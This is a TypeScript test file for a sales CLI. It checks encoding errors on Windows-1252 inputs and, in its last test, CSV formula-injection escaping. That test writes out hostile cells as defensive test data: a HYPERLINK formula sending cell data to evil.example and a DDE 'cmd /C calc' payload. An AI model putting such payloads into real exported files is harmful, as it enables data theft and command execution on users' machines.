import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { parseCsv } from "../../tools/leads/csv.js";
import { syntheticLeadCsv } from "../../tools/leads/synthetic.js";
import { runCliInProcess } from "../helpers/cli.js";

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "salesgraph-input-files-"));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

/** Windows-1252 bytes of a string (é, ü… are one byte each): what Excel writes as "CSV" on many systems. */
function cp1252(name: string, text: string): string {
  const p = path.join(tmp, name);
  fs.writeFileSync(p, Buffer.from(text, "latin1"));
  return p;
}

describe("input files that are not UTF-8", () => {
  const env = { SALESGRAPH_DATA_DIR: path.join(tmp, "data"), DATABASE_URL: "" };
  const leads = syntheticLeadCsv(300, 5).split("\n");
  // a row in the middle gets a name with an accented letter
  leads[42] = leads[42]!.replace(/^[^,]*/, "Caf\u00e9");
  const leadsFile = cp1252("leads-cp1252.csv", leads.join("\n"));

  it("leads train stops with exit 2 naming the line, and trains with --encoding", async () => {
    const out = path.join(tmp, "model.json");
    const refused = await runCliInProcess(["leads", "train", "--data", leadsFile, "--target", "converted", "--out", out]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/leads-cp1252\.csv: line 43, column 4 is not valid UTF-8 .*--encoding/);
    expect(refused.stderr.trim().split("\n")).toHaveLength(1);
    expect(fs.existsSync(out)).toBe(false);
    const trained = await runCliInProcess(["leads", "train", "--data", leadsFile, "--target", "converted", "--out", out, "--encoding", "windows-1252"]);
    expect(trained.code).toBe(0);
  });

  it("leads score refuses the same file without --encoding", async () => {
    const model = path.join(tmp, "model.json");
    const result = await runCliInProcess(["leads", "score", "--model", model, "--data", leadsFile, "--out", path.join(tmp, "s.csv")]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/line 43/);
  });

  it("crm import refuses a Windows-1252 accounts file before touching the database", async () => {
    const accounts = cp1252("accounts.csv", "account,sector,year_established,revenue,employees,office_location,subsidiary_of\nCaf\u00e9 M\u00fcller,retail,1990,10,50,Berlin,\n");
    const result = await runCliInProcess(["crm", "import", "--accounts", accounts], env);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/accounts\.csv: line 2, column 4 is not valid UTF-8/);
    expect(fs.existsSync(env.SALESGRAPH_DATA_DIR)).toBe(false);
  });

  it("transcript analyze refuses a Windows-1252 transcript and reads it with --encoding", async () => {
    const call = cp1252("call.txt", "Rep: Hello, how are you?\nCustomer: Tr\u00e8s bien. What does it cost?\nRep: It is 40 dollars.\n");
    const refused = await runCliInProcess(["transcript", "analyze", call, "--json"]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/call\.txt: line 2, column 13/);
    const read = await runCliInProcess(["transcript", "analyze", call, "--json", "--encoding", "latin1"]);
    expect(read.code).toBe(0);
  });

  it("an unknown --encoding is bad usage", async () => {
    const result = await runCliInProcess(["leads", "train", "--data", leadsFile, "--target", "converted", "--out", path.join(tmp, "m2.json"), "--encoding", "klingon"]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/unknown encoding 'klingon'/);
  });
});

describe("CSV the product writes", () => {
  it("leads score escapes formula cells copied from the input (OWASP CSV injection)", async () => {
    const train = path.join(tmp, "train.csv");
    fs.writeFileSync(train, syntheticLeadCsv(300, 7));
    const model = path.join(tmp, "model-clean.json");
    expect((await runCliInProcess(["leads", "train", "--data", train, "--target", "converted", "--out", model])).code).toBe(0);
    const lines = fs.readFileSync(train, "utf8").trim().split("\n");
    const header = lines[0]!.split(",");
    const hostile = lines.slice(1, 4).map((line, i) => {
      const cells = parseCsv(`${lines[0]}\n${line}\n`).rows[0]!;
      cells[0] = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2"][i]!;
      return cells.map((c) => `"${c.replace(/"/g, '""')}"`).join(",");
    });
    const data = path.join(tmp, "hostile.csv");
    fs.writeFileSync(data, `${header.join(",")}\n${hostile.join("\n")}\n`);
    const out = path.join(tmp, "scored.csv");
    expect((await runCliInProcess(["leads", "score", "--model", model, "--data", data, "--out", out])).code).toBe(0);
    const written = parseCsv(fs.readFileSync(out, "utf8"));
    for (const row of written.rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
    }
    expect(written.rows[0]![0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
  });
});
